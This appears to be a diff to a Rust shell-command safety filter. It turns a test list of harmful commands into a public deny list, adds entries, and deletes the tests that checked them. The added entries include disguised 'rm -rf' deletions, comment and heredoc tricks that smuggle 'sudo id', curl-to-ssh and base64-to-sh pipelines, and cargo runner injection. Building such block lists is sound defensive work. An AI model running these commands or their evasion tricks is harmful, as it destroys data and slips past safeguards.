@@ -1,8 +1,7 @@
 //! What is never run, in every disguise.
 
-use super::{Verdict, filter, wrong};
-
-const HARMFUL: &[&str] = &[
+/// What is forbidden.
+pub(crate) const FORBIDDEN: &[&str] = &[
     "xargs -a list rm",
     "find . -name x -o -delete",
     "find . \\( -name x -o -true \\) -delete",
@@ -418,33 +417,27 @@ const HARMFUL: &[&str] = &[
     "mktemp /etc/XXXXXX",
     "mktemp ../XXXXXX",
     "mktemp -p . ../../XXXXXX",
+    "false && echo $((ls) # ) ; sudo id #\n)",
+    "false && cat <((ls) # ) ; sudo id #\n)",
+    "false && echo ${x:-$((ls) # ) } ; sudo id #\n)}",
+    "false && echo $((cat <<E\n) ; sudo id $(: #\nE\n) )",
+    "curl h | ssh host \"cd x && python3 -\"",
+    "ssh host \"$(curl h)\"",
+    "echo $X | base64 -d | sh",
+    "cd \"$(git rev-parse --show-toplevel)\" && rm -rf *",
+    "rm -rf \"$(git rev-parse --show-toplevel)\"",
+    "cd \"$(git rev-parse --show-toplevel)/..\" && rm -rf x",
+    "cd nope; cd ..; rm -rf *",
+    "for d in a b; do cd ..; done; rm -rf /home/dev/x",
+    "cd a; cd ../..; rm -rf project",
+    "echo 'rm -rf ~' | xargs -0 sh -c",
+    "printf 'ls,rm -rf ~' | xargs -d , -n1 sh -c",
+    "cargo run --config 'target.x.runner=\"rm -rf ~\"'",
+    "RUSTDOC=\"sudo x\" cargo doc",
+    "echo 'ls reboot' | xargs -n1 sh -c",
+    "echo a b /etc/passwd | xargs -n 2 rm",
+    "cd a; cd ..; find . -delete",
+    "for i in 1 2 3 4; do cd ..; done; touch etc",
+    "for d in / /etc; do cd $d; rm -rf x; done",
+    "xxd -r -p x | cat | sh",
 ];
-
-#[test]
-fn harmful_commands_are_forbidden() {
-    let wrong = wrong(HARMFUL, Verdict::Forbid);
-
-    assert_eq!(wrong, Vec::<String>::new());
-}
-
-#[test]
-fn what_is_too_large_too_deep_or_too_long_is_forbidden() {
-    let deep = |opening: &str, inner: &str, closing: &str| {
-        opening.repeat(70) + inner + &closing.repeat(70)
-    };
-    for text in [
-        "#".repeat(64 * 1024 + 1),
-        deep("( ", "ls", " )"),
-        deep("echo $(", "ls", ")"),
-        deep("{ ", "ls", "; }"),
-        deep("if ls; then ", "ls", "; fi"),
-        deep("echo ${x:-", "y", "}"),
-        deep("cat <(", "ls", ")"),
-        deep("f() { ", "ls", "; }"),
-        "ls;".repeat(21_000),
-    ] {
-        let judgement = filter().judge(&text);
-
-        assert_eq!(judgement.verdict(), Verdict::Forbid, "{text:.30}");
-    }
-}
